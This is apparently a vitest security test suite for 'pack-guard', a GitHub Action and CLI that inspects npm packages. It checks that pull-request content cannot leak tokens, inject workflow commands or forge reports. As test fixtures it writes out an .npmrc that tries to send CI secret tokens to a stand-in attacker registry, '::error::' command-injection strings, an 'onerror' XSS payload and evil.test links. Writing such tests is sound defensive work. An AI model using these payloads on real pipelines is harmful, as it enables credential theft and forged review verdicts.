/**
 * The action's trust boundary, tried as an attacker would, on the bundled action
 * (Node 24) with a loopback registry and GitHub API: nothing in a pull request
 * steers a token, forges a verdict or writes a command.
 */
import { type IncomingHttpHeaders, type Server, createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeAll, describe, expect, it } from 'vitest'
import { ROOT } from './helpers/cli.js'
import { NODE24, pullRequestEvent, runAction } from './helpers/action.js'
import { FakeGitHub } from './helpers/github-api.js'
import { foreignMarkup, renderGfm } from './helpers/gfm.js'
import { nerfDart, publish, registryUrl, uniqueName, writePackageFolder } from './helpers/registry.js'
import { sourceMap, tempDir, writeTarball } from './helpers/tarball.js'

const SECRETS = { 'INPUT_GITHUB-TOKEN': 'gh-token-secret', NODE_AUTH_TOKEN: 'npm-token-secret', ACTIONS_RUNTIME_TOKEN: 'runtime-token-secret', ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-token-secret' }
const stops: Array<() => Promise<void>> = []

/** A registry that should never be asked: it records every request, headers included, and answers 404. */
async function attacker(): Promise<{ url: string; requests: Array<{ url?: string; headers: IncomingHttpHeaders }> }> {
  const requests: Array<{ url?: string; headers: IncomingHttpHeaders }> = []
  const server: Server = createServer((req, res) => {
    requests.push({ url: req.url, headers: req.headers })
    res.writeHead(404, { 'content-type': 'application/json' })
    res.end('{"error":"not found"}')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  stops.push(() => new Promise<void>((resolve) => server.close(() => resolve())))
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, requests }
}

async function github(options: ConstructorParameters<typeof FakeGitHub>[0] = {}): Promise<FakeGitHub> {
  const server = await new FakeGitHub(options).start()
  stops.push(() => server.stop())
  return server
}

afterEach(async () => {
  await Promise.all(stops.splice(0).map((stop) => stop()))
})

let name: string
beforeAll(async () => {
  name = uniqueName('trust')
  await publish(name, '1.0.0', [{ path: 'index.js', content: 'export {}\n' }])
})

/** What actions/setup-node leaves: a user .npmrc naming the registry, its token from NODE_AUTH_TOKEN. */
function setupNodeUserconfig(): string {
  const file = join(tempDir(), 'setup-node.npmrc')
  writeFileSync(file, `registry=${registryUrl()}\n${nerfDart()}:_authToken=\${NODE_AUTH_TOKEN}\n`)
  return file
}

function runnerEnv(userconfig: string): NodeJS.ProcessEnv {
  // A fresh home, as on a fresh runner: npm's once-a-day update check would run there.
  return { HOME: tempDir(), NPM_CONFIG_USERCONFIG: userconfig, ...SECRETS }
}

describe('tokens go only where the workflow said', () => {
  it("a pull request's .npmrc cannot send the job's tokens to its host: one warning naming the file, the baseline from the workflow's registry", async () => {
    const evil = await attacker()
    const folder = writePackageFolder(join(tempDir(), 'pkg'), { name, version: '1.0.1' }, {
      'index.js': 'export {}\n',
      '.npmrc': `registry=${evil.url}\n${nerfDart(evil.url)}:_authToken=\${INPUT_GITHUB-TOKEN}|\${NODE_AUTH_TOKEN}|\${ACTIONS_RUNTIME_TOKEN}|\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}\n`,
    })
    const result = await runAction({ path: '.' }, { workspace: folder, env: runnerEnv(setupNodeUserconfig()) })
    expect(result.code, result.stdout + result.stderr).toBe(0)
    expect(evil.requests).toEqual([])
    const warnings = result.commands.filter((c) => c.command === 'warning')
    expect(warnings).toHaveLength(1)
    expect(warnings[0].line).toContain(`${join(folder, '.npmrc')} chooses a registry this workflow did not configure`)
    const report = JSON.parse(readFileSync(result.outputs.report, 'utf8'))
    expect(report.packages[0].baseline).toEqual({ version: '1.0.0', source: 'registry', registry: registryUrl() })
    for (const secret of Object.values(SECRETS)) expect(result.stdout + result.summary).not.toContain(secret)
  })

  it('publishConfig.registry in the pull request cannot steer the request either', async () => {
    const evil = await attacker()
    const folder = writePackageFolder(join(tempDir(), 'pkg'), { name, version: '1.0.1', publishConfig: { registry: `${evil.url}\n::error::pwned` } }, { 'index.js': 'export {}\n' })
    const result = await runAction({ path: '.' }, { workspace: folder, env: runnerEnv(setupNodeUserconfig()) })
    expect(result.code, result.stdout + result.stderr).toBe(0)
    expect(evil.requests).toEqual([])
    const warnings = result.commands.filter((c) => c.command === 'warning')
    expect(warnings).toHaveLength(1)
    expect(warnings[0].line).toContain(`${join(folder, 'package.json')}: publishConfig.registry`)
    expect(result.stdout).not.toMatch(/^\s*::error::pwned/m)
    expect(JSON.parse(readFileSync(result.outputs.report, 'utf8')).packages[0].baseline.registry).toBe(registryUrl())
  })

  it('a publishConfig.registry or .npmrc that names a workflow registry is used without a warning', async () => {
    const folder = writePackageFolder(join(tempDir(), 'pkg'), { name, version: '1.0.1', publishConfig: { registry: registryUrl() } }, { 'index.js': 'export {}\n', '.npmrc': `registry=${registryUrl()}\n` })
    const result = await runAction({ path: '.', registry: registryUrl() }, { workspace: folder, env: runnerEnv(join(tempDir(), 'none.npmrc')) })
    expect(result.code, result.stdout).toBe(0)
    expect(result.commands.filter((c) => c.command === 'warning')).toEqual([])
    const viaUserconfig = await runAction({ path: '.' }, { workspace: folder, env: runnerEnv(setupNodeUserconfig()) })
    expect(viaUserconfig.code, viaUserconfig.stdout).toBe(0)
    expect(viaUserconfig.commands.filter((c) => c.command === 'warning')).toEqual([])
  })
})

/** The bundled CLI, asynchronously (a loopback server in this process must keep answering). */
async function runDistCli(args: string[], env: NodeJS.ProcessEnv, cwd: string): Promise<{ code: number; stdout: string; stderr: string }> {
  const { spawn } = await import('node:child_process')
  return new Promise((resolve, reject) => {
    const child = spawn(NODE24, [join(ROOT, 'dist/cli.js'), ...args], { cwd, env, timeout: 60_000 })
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')))
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')))
    child.on('error', reject)
    child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }))
  })
}

const cliEnv = (home: string): NodeJS.ProcessEnv => ({ PATH: process.env.PATH, HOME: home, NPM_CONFIG_USERCONFIG: join(home, '.npmrc'), ...SECRETS })

describe('the CLI in a workflow', () => {
  it("expands only npm's variables in a .npmrc: the action's and the runner's tokens never reach a registry", async () => {
    const evil = await attacker()
    const folder = writePackageFolder(join(tempDir(), 'pkg'), { name, version: '1.0.1' }, {
      'index.js': 'export {}\n',
      '.npmrc': `registry=${evil.url}\n${nerfDart(evil.url)}:_authToken=\${INPUT_GITHUB-TOKEN}|\${ACTIONS_RUNTIME_TOKEN}|\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}|\${NODE_AUTH_TOKEN}\n`,
    })
    const result = await runDistCli(['.'], cliEnv(tempDir()), folder)
    expect(result.code, result.stderr).toBe(0) // 404: a first release
    // pack-guard asks for the package; npm (packing the folder) asks nothing, not even for its own update.
    expect(evil.requests.map((r) => r.url)).toEqual([`/${name}`])
    const sent = evil.requests.map((r) => r.headers.authorization ?? '').join('\n')
    for (const secret of [SECRETS['INPUT_GITHUB-TOKEN'], SECRETS.ACTIONS_RUNTIME_TOKEN, SECRETS.ACTIONS_ID_TOKEN_REQUEST_TOKEN]) expect(sent).not.toContain(secret)
    expect(sent).toContain('${INPUT_GITHUB-TOKEN}|${ACTIONS_RUNTIME_TOKEN}|${ACTIONS_ID_TOKEN_REQUEST_TOKEN}|npm-token-secret')
  })

  it('writes no workflow command: not from file names, a baseline version or an echoed registry URL', async () => {
    const dir = tempDir()
    const candidate = await writeTarball(dir, 'c.tgz', [{ path: '::error title=Release approved::pwned.js', content: 'x' }, { path: 'x ##[error]legacy.js', content: 'x' }, { path: 'dist/a.js.map', content: sourceMap(2, true) }], { name: 'p', version: '1.1.0' })
    const baseline = await writeTarball(dir, 'b.tgz', [{ path: 'index.js', content: 'x' }], { name: 'p', version: '1.0.0\n::error::pwned\u001b[31m' })
    for (const format of ['text', 'markdown', 'json']) {
      const result = await runDistCli([candidate, '--baseline', baseline, '--format', format], cliEnv(dir), dir)
      expect(result.code, result.stderr).toBe(1)
      for (const line of (result.stdout + result.stderr).split(/\r?\n/)) {
        expect(line).not.toMatch(/^\s*::/)
        expect(line).not.toContain('##[')
      }
    }
    const text = await runDistCli([candidate, '--baseline', baseline], cliEnv(dir), dir)
    expect(text.stdout).toContain('against 1.0.0\\x0a:\\x3aerror:\\x3apwned\\x1b[31m')
    // An echoed input: publishConfig.registry with a newline reaches stderr as one escaped line.
    const folder = writePackageFolder(join(dir, 'pkg'), { name: 'p', version: '1.1.0', publishConfig: { registry: 'not a url\n::error::pwned' } }, { 'index.js': 'x' })
    const bad = await runDistCli(['.'], cliEnv(dir), folder)
    expect(bad.code).toBe(2)
    expect(bad.stderr.trimEnd().split('\n')).toHaveLength(1)
    expect(bad.stderr).not.toMatch(/^\s*::/m)
  })
})

describe('a report file is data, checked like data (the fork pattern)', () => {
  const event = { workflow_run: { pull_requests: [{ number: 42 }], head_branch: 'fix', head_sha: 'a'.repeat(40) } }

  async function reportOfLeak(): Promise<{ file: string; report: Record<string, any> }> {
    const dir = tempDir()
    const leaky = await writeTarball(dir, 'leaky.tgz', [{ path: 'index.js', content: 'x' }, { path: 'dist/index.js.map', content: sourceMap(50, true) }], { name: '@acme/widgets', version: '1.1.0' })
    const first = await runAction({ path: leaky, baseline: 'none' }, { event: {}, eventName: 'push' })
    expect(first.code).toBe(1)
    return { file: first.outputs.report, report: JSON.parse(readFileSync(first.outputs.report, 'utf8')) }
  }

  it('a forged field fails the step in one line naming the field, and nothing is posted', async () => {
    const { report } = await reportOfLeak()
    report.packages[0].fileCount.before = '0 |\n\n## APPROVED by @team\n\n![t](https://evil.test/t.png) [sign in](https://evil.test)'
    const file = join(tempDir(), 'forged.json')
    writeFileSync(file, JSON.stringify(report))
    const api = await github()
    const post = await runAction({ 'report-file': file, 'github-token': 't' }, { event, eventName: 'workflow_run', apiUrl: api.url })
    expect(post.code).not.toBe(0)
    expect(post.commands.filter((c) => c.command === 'error').map((c) => c.line)).toEqual([`::error::${file}: not a pack-guard report (packages[0].fileCount.before: expected integer or null, got string)`])
    expect(api.writes()).toEqual([])
    expect(post.summary).toBe('')
  })

  it("a finding marked suppressed by config in the file counts: only the posting job's labels accept", async () => {
    const { report } = await reportOfLeak()
    for (const finding of report.packages[0].findings) finding.suppressed = { by: 'config', reason: 'allowed in pack-guard.config.json' }
    report.verdict = 'pass'
    report.counts = { error: 0, warning: 0, notice: 0 }
    report.packages[0].html = '<img src=x onerror=alert(1)>'
    const file = join(tempDir(), 'forged.json')
    writeFileSync(file, JSON.stringify(report))
    const api = await github()
    const post = await runAction({ 'report-file': file, 'github-token': 't' }, { event, eventName: 'workflow_run', apiUrl: api.url })
    expect(post.code).toBe(1)
    expect(post.outputs.errors).toBe('1')
    expect(api.comments).toHaveLength(1)
    expect(api.comments[0].body).toContain('## pack-guard: FAIL')
    expect(api.comments[0].body).not.toContain('allowed in pack-guard.config.json')
    expect(api.comments[0].body).not.toContain('onerror')
    const posted = JSON.parse(readFileSync(post.outputs.report, 'utf8'))
    expect(posted.packages[0].html).toBeUndefined()
    expect(posted.packages[0].findings.filter((f: { suppressed?: unknown }) => f.suppressed)).toEqual([])
  })
})

describe('the pull request cannot quietly loosen the gate', () => {
  const BASE_CONFIG = { forbidden: ['*.sqlite'], size: { newFileBytes: 1000000 } }
  const prEvent = () => {
    const event = pullRequestEvent(7) as { pull_request: Record<string, unknown> }
    event.pull_request.base = { sha: 'b'.repeat(40) }
    return event
  }
  function leakyRepo(config: unknown | undefined): string {
    const files: Record<string, string> = { 'index.js': 'export {}\n', 'index.js.map': sourceMap(20, true) }
    if (config !== undefined) files['pack-guard.config.json'] = JSON.stringify(config, null, 2)
    return writePackageFolder(join(tempDir(), 'repo'), { name: '@acme/loose', version: '1.0.0' }, files)
  }

  it('a rule turned off and a new allow entry are said first in the comment and the summary', async () => {
    const repo = leakyRepo({
      ...BASE_CONFIG,
      rules: { 'source-map/sources-content': 'off' },
      allow: [{ path: '**/*.map', reason: 'we publish our source [on purpose](https://evil.test) @team' }],
      size: { newFileBytes: 50000000 },
    })
    const api = await github({ baseFiles: { 'pack-guard.config.json': JSON.stringify(BASE_CONFIG) } })
    const result = await runAction({ path: '.', baseline: 'none', 'github-token': 't' }, { workspace: repo, event: prEvent(), apiUrl: api.url })
    expect(result.code, result.stdout).toBe(0) // the loosened config lets the leak pass...
    expect(api.requests.some((r) => r.path.startsWith('/repos/acme/widgets/contents/pack-guard.config.json?ref=bbbb'))).toBe(true)
    // ...but the reviewers read so before anything else, in a comment even though the run is clean.
    expect(api.comments).toHaveLength(1)
    for (const text of [api.comments[0].body, result.summary]) {
      const rendered = renderGfm(text)
      const first = rendered.blocks.findIndex((b) => b.startsWith("The pack-guard config differs from the base branch"))
      expect(first).toBeGreaterThanOrEqual(0)
      expect(rendered.blocks.findIndex((b) => b.startsWith('pack-guard: PASS'))).toBeGreaterThan(first)
      expect(rendered.blocks.join('\n')).toContain('rule source-map/sources-content turned off')
      expect(rendered.blocks.join('\n').replace(/\u200b/g, '')).toContain('new allow entry for **/*.map (all rules): "we publish our source [on purpose](https://evil.test) @team"')
      expect(rendered.blocks.join('\n')).toContain('size.newFileBytes 1000000 → 50000000')
      expect(foreignMarkup(rendered)).toEqual([])
      expect(rendered.mentions).toEqual([])
    }
  })

  it('says nothing when the config is the base branch\'s; says "added" for a config the base does not have', async () => {
    const api = await github({ baseFiles: { 'pack-guard.config.json': JSON.stringify(BASE_CONFIG) } })
    const same = await runAction({ path: '.', baseline: 'none', 'github-token': 't' }, { workspace: leakyRepo(BASE_CONFIG), event: prEvent(), apiUrl: api.url })
    expect(same.code).toBe(1)
    expect(same.summary).not.toContain('differs from the base branch')
    const fresh = await github()
    const added = await runAction({ path: '.', baseline: 'none', 'github-token': 't' }, { workspace: leakyRepo({ rules: { 'source-map/sources-content': 'off' } }), event: prEvent(), apiUrl: fresh.url })
    expect(added.summary).toContain('The pack-guard config differs from the base branch:** `pack-guard.config.json` (added by this pull request)')
  })

  it('says so when the pull request deletes the config', async () => {
    const api = await github({ baseFiles: { 'pack-guard.config.json': JSON.stringify({ ...BASE_CONFIG, failOn: 'warning' }) } })
    const result = await runAction({ path: '.', baseline: 'none', 'github-token': 't' }, { workspace: leakyRepo(undefined), event: prEvent(), apiUrl: api.url })
    expect(result.summary).toContain('`pack-guard.config.json` (removed by this pull request)')
    expect(result.summary).toContain('the config file is gone: the defaults judge this pull request')
  })
})

describe('every renderer survives a huge report', () => {
  it('a release that ships a whole .git/ folder (150,000 files): the action still writes its summary and comment, bounded', { timeout: 180_000 }, async () => {
    // @ts-expect-error plain JavaScript shared with scripts/build-corpus.mjs
    const { header } = (await import('../scripts/lib/raw-tar.mjs')) as { header: (entry: { name: string; size?: number }) => Buffer }
    const { gzipSync } = await import('node:zlib')
    const manifest = Buffer.from(JSON.stringify({ name: '@acme/widgets', version: '1.1.0' }))
    const blocks: Buffer[] = [header({ name: 'package/package.json', size: manifest.length }), Buffer.concat([manifest, Buffer.alloc(512 - manifest.length)])]
    for (let i = 0; i < 150_000; i++) blocks.push(header({ name: `package/.git/objects/${(i % 256).toString(16).padStart(2, '0')}/${i.toString(16).padStart(38, '0')}` }))
    blocks.push(Buffer.alloc(1024))
    const file = join(tempDir(), 'git-leak.tgz')
    writeFileSync(file, gzipSync(Buffer.concat(blocks), { level: 1 }))
    const api = await github()
    const result = await runAction({ path: file, baseline: 'none', 'github-token': 't' }, { event: pullRequestEvent(7), apiUrl: api.url, timeoutMs: 170_000 })
    expect(result.stderr).not.toMatch(/internal error|Maximum call stack/)
    expect(result.code).toBe(1)
    // The folder is one grouped error that counts its 150,000 files (every path stays in the JSON report's details.paths).
    expect(result.outputs.errors).toBe('1')
    expect(Buffer.byteLength(result.summary)).toBeLessThanOrEqual(1_000_000)
    expect(result.summary).toContain('150000 files under .git/')
    expect(api.comments).toHaveLength(1)
    expect(api.comments[0].body.length).toBeLessThanOrEqual(65_536)
    expect(api.comments[0].body).toContain('files/forbidden')
    expect(result.commands.filter((c) => c.command === 'error' && c.line.includes('title=pack-guard files/forbidden'))).toHaveLength(1)
  })
})
